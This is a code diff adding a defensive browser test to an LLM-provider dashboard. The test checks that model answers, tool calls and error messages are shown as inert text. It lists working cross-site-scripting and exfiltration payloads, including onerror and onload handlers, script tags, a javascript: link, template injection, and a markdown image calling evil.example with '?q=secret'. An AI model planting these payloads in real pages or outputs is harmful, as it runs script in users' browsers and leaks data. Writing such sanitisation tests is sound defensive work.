@@ -102,6 +102,46 @@ test('a provider is probed by a click, and says what passed and what it cost', a
   await keepPicture('verification')
 })
 
+test('W8: what a model, a tool call and a provider’s error say is text: nothing of it runs, loads, links or leads away', async () => {
+  const hostile = [
+    '<img src="https://evil.example/pixel.png" onerror="window.owned=1">',
+    '<script>window.owned=1</script><svg onload="window.owned=1"></svg><iframe src="https://evil.example/"></iframe>',
+    '![pixel](https://evil.example/pixel.png?q=secret) [click](javascript:window.owned=1) <a href="https://evil.example/">free</a>',
+    '{{constructor.constructor("window.owned=1")()}} \u202e\u0000<style>*{background:url(https://evil.example/)}</style>',
+  ].join('\n')
+  const asked: string[] = []
+  page.on('request', (request) => asked.push(request.url()))
+  const askThere = async (): Promise<void> => {
+    await page.getByLabel('Your message').fill(hostile)
+    await page.getByRole('button', { name: 'Send' }).click()
+  }
+  acme.script('scripted', { then: { kind: 'answer', text: hostile, ignoresCap: true } })
+  await page.getByRole('link', { name: 'Playground' }).click()
+  await page.getByRole('combobox', { name: 'Model of column 1' }).click()
+  await page.getByRole('option', { name: 'acme-one' }).click()
+  await askThere()
+  await page.getByRole('link', { name: 'log', exact: true }).waitFor()
+  acme.script('scripted', { then: { kind: 'answer', toolCalls: [{ name: 'look', arguments: JSON.stringify({ at: hostile }) }] } })
+  await askThere()
+  await page.getByRole('link', { name: 'log', exact: true }).nth(1).waitFor()
+  acme.script('scripted', { then: { kind: 'status', code: 400, body: { error: { message: hostile, type: hostile, code: hostile } } } })
+  await askThere()
+  await page.getByRole('main').getByRole('alert').waitFor()
+  const main = page.getByRole('main')
+  assert.ok(
+    (await main.innerText()).includes('<img src="https://evil.example/pixel.png" onerror="window.owned=1">'),
+    'shown as it was said',
+  )
+  assert.equal(await main.locator('img, iframe, svg[onload], script, style, a[href*="evil"], a[href^="javascript"]').count(), 0)
+  await page.getByRole('link', { name: 'log', exact: true }).first().click()
+  await page.getByRole('dialog').getByText('acme-one').first().waitFor()
+  assert.equal(await page.evaluate('window.owned'), undefined)
+  const elsewhere = asked.filter((url) => !url.startsWith(dashboard.url) && !url.startsWith('data:'))
+  assert.deepEqual(elsewhere, [])
+  await page.keyboard.press('Escape')
+  acme.script('scripted', { then: { kind: 'answer' } })
+})
+
 test('a price list is compared, its jump left out, and what is ticked is published', async () => {
   const list = { 'acme/scripted': { litellm_provider: 'acme', input_cost_per_token: 1.5e-7, output_cost_per_token: 2.8e-7 } }
   const upload = (text: string): Promise<void> =>
